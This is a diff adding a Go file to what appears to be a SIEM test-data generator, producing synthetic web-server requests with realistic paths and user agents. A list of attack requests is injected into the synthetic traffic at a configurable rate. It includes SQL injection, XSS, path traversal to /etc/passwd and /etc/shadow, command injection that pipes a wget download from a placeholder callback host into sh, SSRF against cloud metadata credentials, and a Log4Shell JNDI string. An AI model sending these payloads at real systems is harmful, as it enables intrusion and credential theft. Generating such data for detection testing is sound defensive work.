@@ -0,0 +1,171 @@
+package generators
+
+import (
+	"fmt"
+	"strings"
+	"sync"
+
+	"siem-event-generator/models"
+)
+
+// webConfig holds the web request settings; attack payloads are off by
+// default
+var webConfig = struct {
+	sync.RWMutex
+	models.WebConfig
+}{}
+
+// WebConfig returns the web request settings
+func WebConfig() models.WebConfig {
+	webConfig.RLock()
+	defer webConfig.RUnlock()
+	return webConfig.WebConfig
+}
+
+// SetWebConfig replaces the web request settings
+func SetWebConfig(cfg models.WebConfig) error {
+	if err := cfg.Validate(); err != nil {
+		return err
+	}
+	webConfig.Lock()
+	defer webConfig.Unlock()
+	webConfig.WebConfig = cfg
+	return nil
+}
+
+// webURLs are request paths by kind of request, most popular first.
+// {id}, {hash}, {term}, {slug}, {page} and {campaign} are filled in per
+// request.
+var webURLs = map[string][]string{
+	webRequestPage: {
+		"/", "/products", "/products/{id}", "/search?q={term}", "/cart", "/checkout",
+		"/login", "/account", "/account/orders", "/products?category={slug}&sort=price_asc",
+		"/search?q={term}&page={page}", "/?utm_source=google&utm_medium=cpc&utm_campaign={campaign}",
+		"/blog/{slug}", "/blog/{slug}?utm_source=newsletter&utm_medium=email&utm_campaign={campaign}",
+		"/products/{id}?ref=homepage", "/about", "/contact", "/help", "/help/articles/{id}-{slug}",
+		"/account/orders/{id}", "/login?next=%2Faccount%2Forders", "/privacy", "/terms",
+	},
+	webRequestAsset: {
+		"/static/js/app.{hash}.js", "/static/js/vendor.{hash}.js", "/static/css/main.{hash}.css",
+		"/images/logo.png", "/images/products/{id}.jpg", "/favicon.ico", "/fonts/inter-var.woff2",
+		"/static/js/chunk-{hash}.js", "/images/products/{id}.webp?w=640&q=75", "/static/css/vendor.{hash}.css",
+		"/images/banners/{slug}.webp", "/static/media/icons.{hash}.svg", "/apple-touch-icon.png",
+		"/robots.txt", "/sitemap.xml", "/manifest.json",
+	},
+	webRequestAPI: {
+		"/api/v1/products?page={page}&limit=20", "/api/v1/products/{id}", "/api/v1/cart",
+		"/api/v1/search?q={term}", "/api/v1/users/me", "/api/v1/orders?status=open",
+		"/api/v1/recommendations?product_id={id}", "/graphql", "/api/v1/events", "/oauth2/token",
+	},
+}
+
+var (
+	webSlugs     = []string{"summer-sale", "new-arrivals", "electronics", "home-office", "gift-guide", "how-to-choose-a-monitor", "shipping-and-returns", "accessories"}
+	webCampaigns = []string{"spring_promo", "brand_search", "retargeting_q3", "black_friday", "newsletter_weekly"}
+)
+
+// RandomURL returns a realistic request path and query for a kind of
+// request: a page, a static asset or an API call
+func (b *BaseGenerator) RandomURL(kind string) string {
+	urls, ok := webURLs[kind]
+	if !ok {
+		urls = webURLs[webRequestPage]
+	}
+	return strings.NewReplacer(
+		"{id}", fmt.Sprintf("%d", b.RandomInt(100, 99999)),
+		"{hash}", b.RandomHex(4),
+		"{term}", b.RandomChoice(webSearchTerms),
+		"{slug}", b.RandomChoice(webSlugs),
+		"{page}", fmt.Sprintf("%d", b.RandomInt(2, 12)),
+		"{campaign}", b.RandomChoice(webCampaigns),
+	).Replace(b.ZipfChoice(urls))
+}
+
+// webUserAgents are current browser and crawler user agents, weighted
+// roughly by market share
+var webUserAgents = []struct {
+	agent  string
+	weight float64
+}{
+	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 28},
+	{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_0_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0.1 Mobile/15E148 Safari/604.1", 16},
+	{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36", 14},
+	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 9},
+	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0", 8},
+	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15", 6},
+	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0", 4},
+	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36", 4},
+	{"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36", 3},
+	{"Mozilla/5.0 (iPad; CPU OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1", 2},
+	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 1.5},
+	{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0", 0.5},
+	{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 2},
+	{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 1},
+	{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 0.5},
+	{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", 0.5},
+}
+
+var webUserAgentWeights = func() []float64 {
+	weights := make([]float64, len(webUserAgents))
+	for i, ua := range webUserAgents {
+		weights[i] = ua.weight
+	}
+	return weights
+}()
+
+// RandomUserAgent returns a current browser or crawler user agent
+func (b *BaseGenerator) RandomUserAgent() string {
+	return webUserAgents[b.weightedIndex(webUserAgentWeights)].agent
+}
+
+// webAttack is a malicious request: a URL with an injected payload, or a
+// tool whose user agent gives it away. %IP% is the attacker's callback
+// address.
+type webAttack struct {
+	category string // sqli, xss, path_traversal, command_injection, ssrf, log4shell or scanner
+	uri      string // Empty to request an ordinary page
+	agent    string // Empty for a browser user agent
+}
+
+var webAttacks = []webAttack{
+	{"sqli", "/products?id=1%27%20OR%20%271%27%3D%271", ""},
+	{"sqli", "/products?id=-1%20UNION%20SELECT%20username,password,3%20FROM%20users--%20-", "sqlmap/1.8.4#stable (https://sqlmap.org)"},
+	{"sqli", "/search?q=laptop%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", "sqlmap/1.8.4#stable (https://sqlmap.org)"},
+	{"sqli", "/login?user=admin%27--&pass=x", ""},
+	{"xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", ""},
+	{"xss", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", ""},
+	{"xss", "/help?ref=javascript:alert(1)", ""},
+	{"path_traversal", "/download?file=../../../../etc/passwd", ""},
+	{"path_traversal", "/static/..%2f..%2f..%2f..%2fetc%2fshadow", ""},
+	{"path_traversal", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "Mozilla/5.0 zgrab/0.x"},
+	{"path_traversal", "/index.php?page=....//....//....//windows/win.ini", ""},
+	{"command_injection", "/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd", ""},
+	{"command_injection", "/cgi-bin/status?cmd=%7Cwget%20http://%IP%/x.sh%20-O-%7Csh", "Mozilla/5.0 zgrab/0.x"},
+	{"ssrf", "/api/v1/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", ""},
+	{"log4shell", "", "${jndi:ldap://%IP%:1389/Exploit}"},
+	{"scanner", "/.env", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"},
+	{"scanner", "/wp-login.php", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"},
+	{"scanner", "/nmaplowercheck1729107563", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+	{"scanner", "/.git/HEAD", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
+	{"scanner", "/admin/", "gobuster/3.6"},
+	{"scanner", "/backup.zip", "Mozilla/5.0 (compatible; DirBuster/1.0-RC1)"},
+	{"scanner", "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
+}
+
+// webAttackRequest turns a request into an attack at the configured rate,
+// returning its URI and user agent and whether it did. Otherwise uri and
+// userAgent come back unchanged.
+func (b *BaseGenerator) webAttackRequest(uri, userAgent string) (string, string, bool) {
+	if b.rnd.float64()*100 >= WebConfig().AttackRate {
+		return uri, userAgent, false
+	}
+	attack := webAttacks[b.RandomInt(0, len(webAttacks)-1)]
+	ip := b.RandomIPv4External()
+	if attack.uri != "" {
+		uri = strings.ReplaceAll(attack.uri, "%IP%", ip)
+	}
+	if attack.agent != "" {
+		userAgent = strings.ReplaceAll(attack.agent, "%IP%", ip)
+	}
+	return uri, userAgent, true
+}